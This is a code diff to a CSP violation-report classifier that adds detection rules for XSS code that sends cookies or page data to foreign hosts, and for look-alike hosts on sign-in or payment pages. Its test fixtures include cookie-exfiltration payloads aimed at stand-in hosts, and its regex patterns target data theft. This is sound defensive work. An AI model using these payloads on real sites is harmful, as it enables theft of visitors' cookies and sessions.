@@ -6,15 +6,16 @@ import re
 from collections.abc import Iterator
 from functools import lru_cache
 
-from issues.verdicts.evidence import Evidence
+from issues.verdicts.evidence import Evidence, registrable
 from issues.verdicts.injected import host_of_list
 from issues.verdicts.lists.services import KNOWN
-from issues.verdicts.lookalike import borrows, imitates, typo_of
+from issues.verdicts.lookalike import borrows, imitates, is_served, resembles, typo_of
 from issues.verdicts.model import Mark, ProjectFacts, Rule
 from policies.violation import Violation
 
 _INLINE = {"effective-directive": "script-src-elem", "blocked-uri": "inline"}
 _PAY = {"document-uri": "https://brackenshop.example/checkout"}
+_SIGN_IN = {"document-uri": "https://online.brackenshop.example/login"}
 _HOME = {"document-uri": "https://brackenshop.example/"}
 _SENT = {"effective-directive": "connect-src"}
 
@@ -55,6 +56,23 @@ RULES: tuple[Rule, ...] = (
         "OWASP, XSS filter evasion",
         {**_INLINE, "script-sample": "fetch('//x.example/'+document.cookie)"},
         {**_INLINE, "script-sample": "alertBox.show('Welcome')"},
+    ),
+    Rule(
+        "xss-sends",
+        "S11",
+        "attack",
+        "likely",
+        "Code that sends the page's data away",
+        "The blocked code asks {} for something and puts what the page or the visitor's cookies say into the address.",
+        "OWASP, XSS filter evasion",
+        {
+            "effective-directive": "script-src-attr",
+            "blocked-uri": "inline",
+            "source-file": "https://shop.example/page",
+            "line-number": "140",
+            "script-sample": "this.src='//collect.example.net/?'+docume",
+        },
+        {"effective-directive": "script-src-attr", "blocked-uri": "inline", "script-sample": "this.src='//cdn.shop.example/?'+document."},
     ),
     Rule(
         "xss-address",
@@ -109,6 +127,17 @@ RULES: tuple[Rule, ...] = (
         {**_HOME, "effective-directive": "img-src", "blocked-uri": "https://secure-pay-brackenshop.example.net/a.png"},
     ),
     Rule(
+        "lookalike-own",
+        "S12",
+        "attack",
+        "likely",
+        "A host close to your own where people sign in or pay",
+        "Where people sign in or pay, data or code went to a host that looks like “{}” and is none of yours. If it is yours, declare it.",
+        "APWG's reports on phishing: look-alike domains",
+        {**_SIGN_IN, "effective-directive": "form-action", "blocked-uri": "https://online-brackenshop.invalid/post"},
+        {**_HOME, "effective-directive": "form-action", "blocked-uri": "https://online-brackenshop.invalid/post"},
+    ),
+    Rule(
         "skimmer-host",
         "S12",
         "attack",
@@ -126,6 +155,12 @@ _PAYMENT = re.compile(
     r"(?:^|[/\-_.])(?:checkout|payments?|pay|billing|kasse|zahlung|bezahl\w*|paiement|pago|pagamento|purchase|order[\-_/]?(?:confirm\w*|review)|card|creditcard)(?:[/\-_.]|$)",
     re.IGNORECASE,
 )
+_ENTRY = re.compile(
+    r"(?:^|[/\-_.])(?:log-?in|log-?on|sign-?(?:in|up|on)|sso|auth(?:enti\w*|ori[sz]\w*)?|session|register|registration|password|passwd|2fa|otp|verify|anmeld\w*|einloggen"
+    r"|connexion|identification|acceso|ingresar|accedi|iniciar-sesion)(?:[/\-_.]|$)",
+    re.IGNORECASE,
+)
+_ENTRY_HOST = re.compile(r"^(?:log-?in|sign-?in|sso|auth|accounts?|idp?|secure)\.")
 _MARKUP = re.compile(
     r"<\s*(?:script|img|svg|iframe|object|embed|base|body|math|video|audio|details|a|style|link|meta)\b[^>]*|\bon(?:error|load|click|mouseover|focus|toggle)\s*="
     r"|javascript:|\bsrcdoc\s*=",
@@ -135,6 +170,28 @@ _PROBE = re.compile(
     r"\b(?:alert|confirm|prompt)\s*[(`](?:['\"/]?(?:xss|\d{1,6})\b|document\.|location|origin|window\.|self\b|1)"
     r"|document\.cookie|\beval\s*\(\s*(?:atob|unescape|String\.fromCharCode)|\bfromCharCode\(\d+,\d+,|\bonerror\s*=\s*alert|\blocalStorage\.getItem\(['\"](?:token|jwt|session)",
 )
+# A foreign address that code asks for, with what the page knows added to it; the second half is often cut off.
+_SENDS = re.compile(
+    r"(?:\.(?:src|href|action|location)|\blocation)\s*=\s*['\"`](?:https?:)?//([\w.\-]+\.[\w\-]+)(?::\d+)?(?:[/?#][^'\"`$]*)?(?:['\"`]\s*\+\s*|\$\{)(.*)"
+    r"|\b(?:fetch|open|sendBeacon|import)\s*\(\s*['\"`](?:https?:)?//([\w.\-]+\.[\w\-]+)(?::\d+)?(?:[/?#][^'\"`$]*)?(?:['\"`]\s*\+\s*|\$\{)(.*)",
+    re.DOTALL,
+)
+_WRAPPED = re.compile(r"^(?:(?:escape|encodeURI(?:Component)?|btoa|JSON\.stringify|String|window|self|top|parent)\s*[(.]\s*)*")
+_KNOWS = (
+    "document.cookie",
+    "document.body",
+    "document.forms",
+    "document.documentElement",
+    "document.querySelector",
+    "document.getElement",
+    "cookie",
+    "location",
+    "localStorage",
+    "sessionStorage",
+)
+_MIN_CUT = 4
+_LONGEST_SAMPLE = 256
+"""Senders that are no browsers may send more than 40 characters; no code has to be read to its end."""
 _SPACES = re.compile(r"\s+")
 _CODE = re.compile(r"[(<=;:`{]")
 _SENDING = frozenset({"script", "connect", "form", "worker", "frame"})
@@ -167,6 +224,24 @@ def _inline_marks(evidence: Evidence) -> Iterator[Mark]:
     yield from _reflected_marks(evidence)
     if evidence.violation.sample and _PROBE.search(evidence.violation.sample):
         yield _BY_ID["xss-probe"].mark()
+    receiver = _receiver_of(evidence.violation.sample)
+    if receiver and not _is_expected(evidence, receiver):
+        yield _BY_ID["xss-sends"].mark(receiver[:60])
+
+
+def _is_expected(evidence: Evidence, host: str) -> bool:
+    """The site's own, one that its policy names, or a well-known service."""
+    return evidence.is_own(host) or evidence.is_related(host) or _is_known(host) or registrable(host) in evidence.policy_domains
+
+
+def _receiver_of(sample: str) -> str:
+    """The host that the code sends page data to, or "". What counters ask for (referrer, title, size of the screen) is no data."""
+    found = _SENDS.search(sample[:_LONGEST_SAMPLE]) if "//" in sample else None
+    if not found:
+        return ""
+    value = _WRAPPED.sub("", found[2] or found[4] or "").rstrip("….")
+    tells = value.startswith(_KNOWS) or (len(value) >= _MIN_CUT and any(name.startswith(value) for name in _KNOWS))
+    return (found[1] or found[3]).lower() if tells else ""
 
 
 def _host_marks(evidence: Evidence) -> Iterator[Mark]:
@@ -185,8 +260,11 @@ def _host_marks(evidence: Evidence) -> Iterator[Mark]:
         imitated = imitates(host, evidence.own_domains)
         if imitated:
             yield _BY_ID["lookalike"].mark(imitated)
-    if evidence.family in _STEALING and _is_sensitive(evidence):
-        yield from _skimmer_marks(evidence, host)
+    if evidence.family in _STEALING:
+        if _is_sensitive(evidence):
+            yield from _skimmer_marks(evidence, host)
+        if _is_sensitive(evidence) or _is_entry(evidence):
+            yield from _resembling_marks(evidence, host)
 
 
 def _skimmer_marks(evidence: Evidence, host: str) -> Iterator[Mark]:
@@ -195,6 +273,15 @@ def _skimmer_marks(evidence: Evidence, host: str) -> Iterator[Mark]:
         yield _BY_ID["skimmer-name"].mark(close)
     elif not (evidence.blocked_is_own or evidence.blocked_is_related or _is_known(host) or evidence.policy_names_blocked):
         yield _BY_ID["skimmer-host"].mark(host)
+
+
+def _resembling_marks(evidence: Evidence, host: str) -> Iterator[Mark]:
+    """Not for hosts that the site's policy names: then a redirect, a port or another directive is the matter."""
+    if evidence.policy_names_blocked or _is_known(host):
+        return
+    like = resembles(host, evidence.own_domains)
+    if like and (evidence.family == "form" or not is_served(host, like)):
+        yield _BY_ID["lookalike-own"].mark(like)
 
 
 def _is_known(host: str) -> bool:
@@ -210,6 +297,11 @@ def _is_known(host: str) -> bool:
 def _is_sensitive(evidence: Evidence) -> bool:
     path = evidence.violation.document.path
     return bool(_PAYMENT.search(path)) or any(page_pattern(pattern).fullmatch(path) for pattern in evidence.facts.sensitive)
+
+
+def _is_entry(evidence: Evidence) -> bool:
+    document = evidence.violation.document
+    return bool(_ENTRY.search(document.path) or _ENTRY_HOST.search(document.host))
 
 
 @lru_cache(maxsize=1024)
